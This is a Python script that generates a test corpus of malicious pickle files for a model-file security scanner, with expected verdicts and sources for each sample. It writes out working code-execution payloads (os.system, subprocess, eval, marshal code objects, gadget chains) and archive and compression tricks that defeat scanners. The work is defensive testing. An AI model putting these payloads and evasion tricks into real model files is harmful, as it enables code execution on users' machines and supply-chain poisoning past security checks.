#!/usr/bin/env python3
"""Generate the malicious corpus of brinery-scan (never loads anything).

Every sample is built from raw opcodes (or with the real archive/compression
modules for the container tricks) and written to malicious/, with an entry in
manifest.json: the expected verdict, a finding name the scanner must report,
and where the technique comes from. Run from any directory:

    python3 gen_malicious.py

Sources (short keys used in the manifest):
  sour-pickles   M. Slaviero, "Sour Pickles", Black Hat USA 2011
  picklescan-gh  GitHub security advisories of mmaitre314/picklescan
                 (GHSA-* bypasses: posix/nt aliases, _posixsubprocess,
                 STACK_GLOBAL operand tracking, zip CRC/flag tricks,
                 non-data.pkl members, pip/asyncio/numpy/torch gadgets)
  fickling-gh    trailofbits/fickling issues and advisories
  jfrog-2025     JFrog, "PickleScan zero-days" (2025): zip flag bits,
                 CRC errors, extension tricks
  sonatype-2025  Sonatype, picklescan bypasses (2025): broken pickles,
                 tails after STOP, archive tricks
  brown-2024     Brown et al., "The Art of Hide and Seek: Making Pickle-Based
                 Model Supply Chain Poisoning Stealthy Again" (2024/2025):
                 resolver chains, nested deserialisation, code objects,
                 parser differentials
  cpython-docs   CPython's pickle documentation ("restricting globals") and
                 _pickle.c behaviour (strtol base 0, MEMOIZE numbering, EXT)
"""
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "malicious")
os.makedirs(OUT, exist_ok=True)

manifest = []


def add(name, data, verdict, finding, source, note):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    manifest.append(
        {"file": name, "verdict": verdict, "finding": finding, "source": source, "note": note}
    )


HARMLESS = os.path.join(HERE, "harmless")
os.makedirs(HARMLESS, exist_ok=True)
harmless = []


def add_harmless(name, data, source, note):
    with open(os.path.join(HARMLESS, name), "wb") as f:
        f.write(data)
    harmless.append({"file": name, "verdict": "safe", "source": source, "note": note})


def su(s):
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):
    """BINUNICODE."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sbytes(b):
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else b"B" + struct.pack("<I", len(b)) + b


def p0_call(module, name, arg="id"):
    """module.name(arg) at protocol 0."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(S'" + arg.encode() + b"'\ntR."


def p4_call(module, name, args=(b"id",)):
    body = b"\x80\x04" + su(module) + su(name) + b"\x93("
    for a in args:
        body += su(a.decode())
    return body + b"tR."


# ---------------------------------------------------------------- basics
add("os_system_p0.pkl", p0_call("os", "system"), "unsafe", "os.system", "sour-pickles",
    "the classic: GLOBAL os.system + REDUCE, protocol 0")
add("posix_system.pkl", p0_call("posix", "system"), "unsafe", "posix.system", "picklescan-gh",
    "os.system under its real module name posix")
add("nt_system.pkl", p0_call("nt", "system"), "unsafe", "nt.system", "picklescan-gh",
    "os.system on Windows (module nt)")
add("subprocess_popen_p4.pkl", p4_call("subprocess", "Popen"), "unsafe", "subprocess.Popen",
    "sour-pickles", "STACK_GLOBAL subprocess.Popen, protocol 4")
add("posixsubprocess_fork_exec.pkl",
    b"\x80\x04" + su("_posixsubprocess") + su("fork_exec") + b"\x93)R.", "unsafe",
    "_posixsubprocess.fork_exec", "picklescan-gh", "the C helper behind subprocess")
add("builtins_eval.pkl", p0_call("builtins", "eval", "__import__('os').system('id')"), "unsafe",
    "builtins.eval", "sour-pickles", "eval of a string")
add("py2_builtin_exec_p2.pkl",
    b"\x80\x02c__builtin__\nexec\nq\x00X\x04\x00\x00\x00passq\x01\x85q\x02Rq\x03.", "unsafe",
    "builtins.exec", "cpython-docs", "__builtin__.exec mapped by fix_imports at protocol 2")
add("inst_opcode_p0.pkl", b"(S'id'\nios\nsystem\n.", "unsafe", "os.system", "sour-pickles",
    "INST calls os.system without REDUCE")
add("obj_opcode_p1.pkl", b"(cos\nsystem\nS'id'\no.", "unsafe", "os.system", "sour-pickles",
    "OBJ calls os.system without REDUCE")
add("newobj_ex_p4.pkl",
    b"\x80\x04" + su("subprocess") + su("Popen") + b"\x93" + su("id") + b"\x85}\x92.", "unsafe",
    "subprocess.Popen", "picklescan-gh", "NEWOBJ_EX instead of REDUCE")
add("discarded_result.pkl",
    b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85R0}q\x02.", "unsafe", "os.system",
    "fickling-gh", "the call's result is popped; the pickle returns an empty dict")

# ------------------------------------------------- parser differentials
add("int_0x10_differential.pkl", b"I0x10\n0" + p0_call("os", "system"), "unsafe", "os.system",
    "brown-2024",
    "INT with a hex literal: _pickle uses strtol(s, 0) and accepts it, pickletools raises")
add("stack_global_string_operands.pkl",
    b"\x80\x04S'os'\nS'system'\n\x93(S'id'\ntR.", "unsafe", "os.system", "picklescan-gh",
    "STACK_GLOBAL operands from STRING opcodes (decoded to str), not SHORT_BINUNICODE")
add("stack_global_binstring_operands.pkl",
    b"\x80\x04U\x02osU\x06system\x93U\x02id\x85R.", "unsafe", "os.system", "picklescan-gh",
    "STACK_GLOBAL operands from SHORT_BINSTRING")
add("frame_tricks.pkl",
    b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00" + b"\x95\x0b\x00\x00\x00\x00\x00\x00\x00"
    + su("os") + su("system") + b"\x93" + b"\x95\x06\x00\x00\x00\x00\x00\x00\x00" + su("id")
    + b"\x85R.", "unsafe", "os.system", "picklescan-gh",
    "empty FRAME, then frames splitting the STACK_GLOBAL from its call")
add("protocol0_unicode_names.pkl", b"Vos\nVsystem\n\x93(Vid\ntR.", "unsafe", "os.system",
    "brown-2024", "STACK_GLOBAL without PROTO: operands from protocol-0 UNICODE")

# ------------------------------------------------- memo / stack confusion
add("memo_get_operands.pkl",
    b"\x80\x04" + su("os") + b"\x94" + su("decoy") + b"\x94" + su("system") + b"\x94" + b"0"
    + b"0" + b"0" + b"h\x00h\x02\x93" + su("id") + b"\x85R.", "unsafe", "os.system",
    "picklescan-gh", "STACK_GLOBAL operands fetched from the memo after popping decoys")
add("memoize_after_pop.pkl",
    b"\x80\x04" + su("dummy") + b"q\x05" + b"0" + su("os") + b"\x94" + su("system") + b"\x94"
    + b"0" + b"0" + b"h\x01h\x02\x93" + su("id") + b"\x85R.", "unsafe", "os.system",
    "cpython-docs",
    "MEMOIZE numbers by the count of memo entries (1, 2 after PUT 5), not max index + 1")
add("get_of_global.pkl",
    b"\x80\x02cos\nsystem\nq\x07" + b"0" + b"N" + b"0" + b"h\x07X\x02\x00\x00\x00id\x85R.",
    "unsafe", "os.system", "fickling-gh", "the global is memoized, popped and called later via GET")
add("payload_then_missing_memo.pkl", p0_call("os", "system")[:-1] + b"g99\n.", "unsafe",
    "os.system", "sonatype-2025",
    "payload, then GET of a missing memo key: CPython has already called os.system")

# ------------------------------------------------- dotted names and aliases
add("pathlib_os_system_p4.pkl", p4_call("pathlib", "os.system"), "unsafe", "pathlib.os.system",
    "picklescan-gh", "protocol 4 dotted name: getattr(pathlib, 'os').system")
add("getattr_nested_p2.pkl",
    b"\x80\x02c__builtin__\ngetattr\n(cpathlib\nos\nX\x06\x00\x00\x00systemtR(S'id'\ntR.",
    "unsafe", "pathlib.os", "picklescan-gh",
    "getattr(pathlib.os, 'system') spelled as CPython spells nested names below protocol 4")
add("getattr_import_os.pkl",
    b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'id'\ntR.",
    "unsafe", "builtins.__import__", "sour-pickles",
    "builtins.getattr(builtins.__import__('os'), 'system')('id')")
add("dunder_subclasses_p4.pkl",
    b"\x80\x04" + su("builtins") + su("object.__subclasses__") + b"\x93)R.", "unsafe",
    "builtins.object.__subclasses__", "brown-2024",
    "dotted name through a dunder: object.__subclasses__() reaches every class")
add("torch_serialization_pickle_p4.pkl",
    b"\x80\x04" + su("torch.serialization") + su("pickle.loads") + b"\x93"
    + sbytes(p0_call("os", "system")) + b"\x85R.", "unsafe", "torch.serialization.pickle.loads",
    "picklescan-gh", "pickle.loads reached as an attribute of torch.serialization")
add("numpy_runstring.pkl",
    p0_call("numpy.testing._private.utils", "runstring", "import os"), "unsafe",
    "numpy.testing._private.utils.runstring", "picklescan-gh", "numpy test helper that execs")

# ------------------------------------------------- resolvers and gadgets
add("pkgutil_resolve_name.pkl",
    b"\x80\x02cpkgutil\nresolve_name\nX\t\x00\x00\x00os:system\x85R(S'id'\ntR.", "unsafe",
    "pkgutil.resolve_name", "picklescan-gh", "pkgutil.resolve_name('os:system')('id')")
add("operator_attrgetter.pkl",
    b"\x80\x02coperator\nattrgetter\nX\x06\x00\x00\x00system\x85R"
    b"cimportlib\nimport_module\nX\x02\x00\x00\x00os\x85R\x85R(S'id'\ntR.", "unsafe",
    "operator.attrgetter", "brown-2024", "attrgetter('system')(importlib.import_module('os'))")
add("operator_methodcaller.pkl",
    b"\x80\x02coperator\nmethodcaller\nX\x06\x00\x00\x00systemX\x02\x00\x00\x00id\x86R"
    b"c__builtin__\n__import__\nX\x02\x00\x00\x00os\x85R\x85R.", "unsafe", "operator.methodcaller",
    "brown-2024", "methodcaller('system', 'id')(__import__('os'))")
add("functools_partial_os.pkl",
    b"\x80\x02cfunctools\npartial\ncos\nsystem\nX\x02\x00\x00\x00id\x86R)R.", "unsafe", "os.system",
    "fickling-gh", "functools.partial(os.system, 'id')()")
add("copyreg_add_extension.pkl",
    b"\x80\x02ccopyreg\nadd_extension\nX\x02\x00\x00\x00osX\x06\x00\x00\x00systemK\xf0\x87R0"
    b"\x82\xf0X\x02\x00\x00\x00id\x85R.", "unsafe", "copyreg.add_extension", "jfrog-2025",
    "the pickle registers extension code 240 -> os.system, then loads it with EXT1")
add("ext_code_unregistered.pkl", b"\x80\x02\x82\x2aX\x02\x00\x00\x00id\x85R.", "unknown",
    "extension code 42", "cpython-docs",
    "EXT1 42: whatever the application registered with copyreg.add_extension")
add("pickle_loads_nested.pkl",
    b"\x80\x02c_pickle\nloads\n" + sbytes(p0_call("os", "system")) + b"\x85R.", "unsafe",
    "_pickle.loads", "brown-2024", "nested deserialisation of a payload in bytes")
code = marshal.dumps(compile("import os\nos.system('id')", "<x>", "exec"))
add("marshal_function.pkl",
    b"\x80\x02ctypes\nFunctionType\ncmarshal\nloads\n" + sbytes(code)
    + b"\x85R}\x86R)R.", "unsafe", "marshal.loads", "brown-2024",
    "types.FunctionType(marshal.loads(code), {})()")
add("types_codetype.pkl",
    b"\x80\x04" + su("types") + su("CodeType") + b"\x93(K\x00K\x00K\x00K\x00K\x00K\x00"
    + sbytes(b"d\x00S\x00") + b")))" + su("x") + su("x") + su("x") + b"K\x01C\x00C\x00))tR.",
    "unsafe", "types.CodeType", "brown-2024", "code-object construction")
add("build_on_global.pkl",
    b"\x80\x02ccollections\nOrderedDict\nN}X\x08\x00\x00\x00fromkeyscos\nsystem\ns\x86b.", "unsafe",
    "collections.OrderedDict", "fickling-gh",
    "BUILD with slot state on a class: setattr(OrderedDict, 'fromkeys', os.system)")
add("unknown_main_class.pkl",
    b"\x80\x04\x8c\x08__main__\x8c\x07Exploit\x93)\x81.",
    "unknown", "__main__.Exploit", "cpython-docs",
    "a class nobody vetted: its __reduce__/__setstate__ decide what runs")
for mod, name, src, note in [
    ("shutil", "rmtree", "picklescan-gh", "deletes a tree"),
    ("webbrowser", "open", "picklescan-gh", "opens a browser (runs a program)"),
    ("urllib.request", "urlopen", "picklescan-gh", "network fetch"),
    ("requests.api", "get", "picklescan-gh", "network fetch"),
    ("socket", "create_connection", "picklescan-gh", "network connection"),
    ("runpy", "run_path", "picklescan-gh", "runs a file"),
    ("cProfile", "run", "picklescan-gh", "cProfile.run executes a code string"),
    ("timeit", "timeit", "picklescan-gh", "executes a code string"),
    ("pydoc", "pipepager", "picklescan-gh", "runs a shell command"),
    ("ctypes", "CDLL", "picklescan-gh", "loads a shared library"),
    ("pip", "main", "picklescan-gh", "installs packages"),
    ("asyncio.subprocess", "create_subprocess_shell", "picklescan-gh", "spawns a shell"),
    ("bdb", "Bdb.run", "picklescan-gh", "debugger executes a code string"),
    ("code", "InteractiveInterpreter.runsource", "picklescan-gh", "executes source"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", "picklescan-gh", "executes source"),
    ("torch.hub", "load", "picklescan-gh", "downloads and runs a model's code"),
    ("numpy", "load", "picklescan-gh", "nested deserialisation"),
    ("joblib", "load", "picklescan-gh", "nested deserialisation"),
    ("pandas", "read_pickle", "picklescan-gh", "nested deserialisation"),
    ("dill", "loads", "picklescan-gh", "nested deserialisation with code objects"),
    ("io", "open", "picklescan-gh", "opens a file"),
    ("tempfile", "mkdtemp", "picklescan-gh", "creates files"),
    ("sys", "exit", "picklescan-gh", "interpreter internals"),
]:
    fname = "gadget_" + (mod + "." + name).replace(".", "_") + ".pkl"
    add(fname, p4_call(mod, name), "unsafe", mod + "." + name, src, note)

# ------------------------------------------------- tails and streams
add("broken_tail_after_payload.pkl", p0_call("os", "system")[:-1] + b"\xff\xfe garbage",
    "unsafe", "os.system", "sonatype-2025",
    "payload then garbage instead of STOP: CPython runs os.system, then fails")
add("payload_after_stop.pkl", b"\x80\x02}q\x00."
    + b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.", "unsafe", "os.system", "sonatype-2025",
    "a benign pickle, then a second pickle (read by stream readers, legacy torch.load)")
add("legacy_torch_fourth_pickle.pt",
    pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    + pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)
    + b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R." + pickle.dumps([], 2) + b"\x04\x00" * 8,
    "unsafe", "os.system", "picklescan-gh",
    "legacy (pre-zip) torch.save layout with the payload in the main pickle")

# ------------------------------------------------- containers
payload = p0_call("os", "system")
benign_p2 = pickle.dumps({"weight": [1.0, 2.0]}, 2)


def zip_bytes(members, compression=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for n, d in members:
            # A fixed timestamp: the samples are reproducible byte for byte.
            z.writestr(zipfile.ZipInfo(n, date_time=(1980, 1, 1, 0, 0, 0)), d,
                       compress_type=compression)
    return buf.getvalue()


add("torch_zip_other_member.pt",
    zip_bytes([("archive/data.pkl", benign_p2), ("archive/version", b"3\n"),
               ("archive/extra/evil.pkl", payload)]), "unsafe", "os.system", "picklescan-gh",
    "torch zip whose payload is a protocol-0 pickle in a member other than data.pkl")
add("torch_zip_extra_member.pt",
    zip_bytes([("archive/data.pkl", benign_p2), ("archive/version", b"3\n"),
               ("archive/extra/x.pkl", payload)]), "unsafe", "os.system", "brinery",
    "payload in extra/ of a torch archive: extra files are scanned by content")
add("torchscript_debug_pkl.pt",
    zip_bytes([("archive/data.pkl", benign_p2), ("archive/constants.pkl", benign_p2),
               ("archive/code/__torch__.py", b"class M(Module):\n  pass\n"),
               ("archive/code/__torch__.py.debug_pkl", payload)]), "unsafe", "os.system",
    "brinery", "payload as a TorchScript *.debug_pkl, which torch's loaders unpickle")
# Archive members torch never unpickles: the scanner must not call these
# unsafe (harmless/ + harmless.json, expected verdict safe).
add_harmless("torch_zip_renamed_member.pt",
             zip_bytes([("archive/data.pkl", benign_p2), ("archive/data/0", payload)]),
             "picklescan-gh",
             "payload in a member named like raw tensor storage: torch reads data/N as raw "
             "storage bytes and never unpickles it")
add_harmless("torchscript_code_member.pt",
             zip_bytes([("archive/data.pkl", benign_p2), ("archive/constants.pkl", benign_p2),
                        ("archive/code/__torch__.py", payload)]),
             "brinery",
             "a pickle as TorchScript source under code/: torch.jit.load compiles it as "
             "TorchScript (and fails), never unpickles it")
z = bytearray(zip_bytes([("archive/data.pkl", payload)]))
for sig in (b"PK\x03\x04", b"PK\x01\x02"):
    i = z.find(sig)
    crc_off = i + (14 if sig == b"PK\x03\x04" else 16)
    z[crc_off:crc_off + 4] = b"\xde\xad\xbe\xef"
add("zip_bad_crc.pt", bytes(z), "unsafe", "os.system", "jfrog-2025",
    "wrong CRC-32: Python's zipfile raises BadZipFile, torch's reader loads it")
z = bytearray(zip_bytes([("archive/data.pkl", payload)]))
i = z.find(b"PK\x03\x04")
z[i + 6:i + 8] = struct.pack("<H", 0x0001 | 0x0800)  # 'encrypted' + utf-8 bits, local only
j = z.find(b"PK\x01\x02")
z[j + 8:j + 10] = struct.pack("<H", 0x0001)
add("zip_flag_bits.pt", bytes(z), "unsafe", "os.system", "jfrog-2025",
    "general-purpose flag 'encrypted' set on a stored entry: zipfile refuses, torch ignores")
z = bytearray(zip_bytes([("archive/data.pkl", payload)]))
i = z.find(b"PK\x03\x04")
z[i + 30:i + 30 + len("archive/data.pkl")] = b"archive/xxxx.pkl"
add("zip_name_mismatch.pt", bytes(z), "unsafe", "os.system", "jfrog-2025",
    "local header name differs from the central directory name")
add("zip_deflated_member.zip",
    zip_bytes([("model/data.pkl", payload)], zipfile.ZIP_DEFLATED), "unsafe", "os.system",
    "picklescan-gh", "deflated member in a zip not named like a checkpoint")
add("polyglot_pickle_zip.bin", benign_p2 + zip_bytes([("archive/data.pkl", payload)]), "unsafe",
    "os.system", "picklescan-gh",
    "benign pickle with a zip appended: pickle.load and zipfile see different files")

tbuf = io.BytesIO()
with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as t:
    for n, d in [("model/README", b"hello\n"), ("model/weights.bin", payload)]:
        ti = tarfile.TarInfo(n)
        ti.size = len(d)
        ti.mtime = 0
        t.addfile(ti, io.BytesIO(d))
tar_bytes = tbuf.getvalue()
add("payload.tar", tar_bytes, "unsafe", "os.system", "picklescan-gh",
    "tar archive (legacy torch checkpoints are tars) with a payload member")
add("payload_tar.gz", gzip.compress(tar_bytes, mtime=0),
    "unsafe", "os.system", "picklescan-gh", "gzip-compressed tar")
add("payload.gz", gzip.compress(payload, mtime=0), "unsafe", "os.system", "sonatype-2025",
    "gzip-compressed pickle with no telling extension")
add("payload.bz2", bz2.compress(payload), "unsafe", "os.system", "sonatype-2025", "bzip2")
add("payload.xz", lzma.compress(payload), "unsafe", "os.system", "sonatype-2025", "xz")
add("payload_zlib.bin", zlib.compress(payload), "unsafe", "os.system", "sonatype-2025",
    "zlib stream (joblib's compression) without extension")
add("nested_gz_zip_tar.bin",
    gzip.compress(zip_bytes([("a/inner.tar", tar_bytes)]), mtime=0), "unsafe", "os.system",
    "sonatype-2025", "gzip of a zip holding a tar holding the payload")


def npy_object(pickled):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickled


add("object_array.npy", npy_object(payload), "unsafe", "os.system", "picklescan-gh",
    ".npy with an object dtype: numpy.load(allow_pickle=True) unpickles the body")
add("object_array.npz", zip_bytes([("arr_0.npy", npy_object(payload))]), "unsafe", "os.system",
    "picklescan-gh", ".npz holding an object .npy")


def joblib_with_nested(nested):
    """A real joblib file of an object array, its nested pickle replaced."""
    import joblib
    import numpy as np
    import pickletools

    buf = io.BytesIO()
    joblib.dump(np.array(["a", 1], dtype=object), buf)
    data = buf.getvalue()
    # The nested pickle follows the BUILD of the NumpyArrayWrapper.
    build = None
    for op, arg, pos in pickletools.genops(io.BytesIO(data)):
        if op.name == "BUILD" and data[pos + 1] == 0x80:
            build = pos
            break
    start = build + 1
    end = start
    for op, arg, pos in pickletools.genops(io.BytesIO(data[start:])):
        end = start + pos + 1
    return data[:start] + nested + data[end:]


try:
    add("joblib_object_array.joblib",
        joblib_with_nested(b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."), "unsafe",
        "os.system", "picklescan-gh",
        "joblib file whose object array's nested pickle (after the wrapper BUILD) is a payload")
except ImportError:
    print("SKIP joblib sample: joblib/numpy not installed")


def joblib_smuggle(payload):
    """A NumpyArrayWrapper without alignment padding whose "array bytes" are
    opcodes: joblib.load reads them as the array, plain pickle.load (same
    file, any name) executes them after the BUILD and then reaches STOP."""
    import numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper

    w = NumpyArrayWrapper(np.ndarray, (len(payload),), "C", np.dtype("u1"),
                          allow_mmap=False, numpy_array_alignment_bytes=None)
    data = pickle.dumps(w, 2)
    assert data.endswith(b"b.")
    return data[:-1] + payload + b"."


try:
    add("joblib_array_bytes_are_opcodes.pkl",
        joblib_smuggle(b"cos\nsystem\n(S'id'\ntR0"), "unsafe", "os.system", "brinery",
        "joblib array bytes that plain pickle.load executes as opcodes (joblib.load sees data)")
except ImportError:
    print("SKIP joblib smuggle sample: joblib/numpy not installed")

manifest.sort(key=lambda e: e["file"])
with open(os.path.join(HERE, "malicious.json"), "w") as f:
    json.dump(manifest, f, indent=1)
    f.write("\n")
harmless.sort(key=lambda e: e["file"])
with open(os.path.join(HERE, "harmless.json"), "w") as f:
    json.dump(harmless, f, indent=1)
    f.write("\n")
print(f"{len(manifest)} malicious samples, {len(harmless)} harmless archive tricks")
